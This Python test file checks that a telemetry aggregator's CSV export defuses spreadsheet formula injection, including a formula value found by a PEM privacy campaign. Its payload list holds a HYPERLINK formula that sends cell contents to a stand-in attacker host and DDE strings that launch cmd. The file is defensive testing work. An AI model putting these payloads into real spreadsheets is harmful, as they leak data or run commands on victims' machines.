"""Every CSV the project writes goes through one writer that neutralises formula cells
(OWASP's CSV-injection rule: a text cell starting with `=`, `+`, `-`, `@`, tab or CR gets a
leading single quote), numbers stay numbers; shown on the payloads a spreadsheet would run and
on a free-text value that PEM discovered in a real open-domain report."""

from __future__ import annotations

import csv
import io
from typing import Any

import numpy as np
import pytest
from stream_entries import append, register

from ldptel.aggregator.csv_export import FORMULA_STARTS, render_csv, spreadsheet_cell, write_csv
from ldptel.aggregator.report import build_window
from ldptel.aggregator.worker import Worker
from ldptel.client.campaign import CampaignConfig
from ldptel.client.discovery.pem import PrefixExtendingMethod
from ldptel.store.registry import Registry

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def written(*cells: object) -> list[str]:
    """The cells as a spreadsheet reads the CSV back (one row under a header)."""
    text = write_csv([f"c{i}" for i in range(len(cells))], [list(cells)])
    _header, row = csv.reader(io.StringIO(text, newline=""))
    return row


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_would_start_a_formula_is_quoted(payload: str) -> None:
    (cell,) = written(payload)
    assert cell == "'" + payload
    assert not cell.startswith(FORMULA_STARTS)


def test_numbers_stay_numbers_and_plain_text_is_unchanged() -> None:
    cells = written(-2, -0.125, 3.5e-07, 0, "-2", "-1.5e-3", "tea", "a=b", True, None)
    assert cells == ["-2", "-0.125", "3.5e-07", "0", "-2", "-1.5e-3", "tea", "a=b", "True", ""]
    assert spreadsheet_cell(-2.5) == -2.5  # a negative number is a number, not text


def pem_campaign(client: Any, value: str) -> CampaignConfig:
    """A PEM campaign whose most frequent free-text answer is `value` (60% of 8,000 users)."""
    params = {"top_k": 4, "step_bits": 8, "sketch": "cms", "k": 64, "m": 64}
    config = CampaignConfig.from_dict(
        {"name": "answers", "oracle": "pem", "epsilon": 4.0, "max_length": len(value),
         "params": params}
    ).as_created()  # fmt: skip
    register(client, config)
    mechanism = config.build_mechanism()
    assert isinstance(mechanism, PrefixExtendingMethod)
    rng = np.random.default_rng(24)
    values = [value] * 4800 + ["tea!"] * 3200
    for start in range(0, len(values), 800):
        batch = mechanism.perturb_values(values[start : start + 800], rng)
        append(client, config, batch, window=1_700_006_400)
    return config


def test_a_formula_that_pem_discovered_is_written_as_text(redis_client: Any) -> None:
    config = pem_campaign(redis_client, "=1+2")
    Worker(redis_client, build_reports=False).run_pass()
    document = build_window(redis_client, Registry(redis_client), config.name, 1_700_006_400)
    discovered = [item["item"] for item in document["reports"][0]["items"]]
    assert "=1+2" in discovered  # the users' own text, found by PEM, as the JSON report has it
    rows = list(csv.DictReader(io.StringIO(render_csv(document))))
    assert {row["item"] for row in rows} >= {"'=1+2", "tea!"}
    for row in rows:
        assert all(number(cell) or not cell.startswith(FORMULA_STARTS) for cell in row.values())
        assert number(row["estimate"]) and number(row["ci_low"])  # negative ones included


def number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
